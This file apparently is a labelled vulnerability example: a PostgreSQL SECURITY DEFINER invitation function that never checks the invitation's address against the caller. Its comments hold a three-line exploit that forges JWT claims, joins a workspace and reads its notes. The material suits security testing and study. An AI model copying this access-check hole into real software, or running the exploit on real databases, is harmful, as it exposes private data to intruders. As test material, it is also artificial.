-- The function that accepts an invitation does not compare its address with that of the caller.
-- about: accept_invitation, invitations, members
-- as: hf_notes_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa", "email": "x"}';
-- exploit: SELECT accept_invitation('22222222-2222-2222-2222-222222222222');
-- exploit: SELECT title FROM notes;
-- shows: Road-secret merger
-- The link in the mail names the workspace; whoever was invited joins it.
CREATE FUNCTION accept_invitation(ws uuid) RETURNS void
LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$
DECLARE inv invitations;
BEGIN
  SELECT * INTO inv FROM invitations i WHERE i.workspace_id = ws LIMIT 1;
  IF NOT FOUND THEN
    RAISE EXCEPTION 'no invitation';
  END IF;
  INSERT INTO members VALUES (inv.workspace_id, auth.uid(), inv.role) ON CONFLICT DO NOTHING;
  DELETE FROM invitations i WHERE i.workspace_id = inv.workspace_id AND i.id = inv.id;
END
$$;
GRANT EXECUTE ON FUNCTION accept_invitation(uuid) TO hf_notes_app;
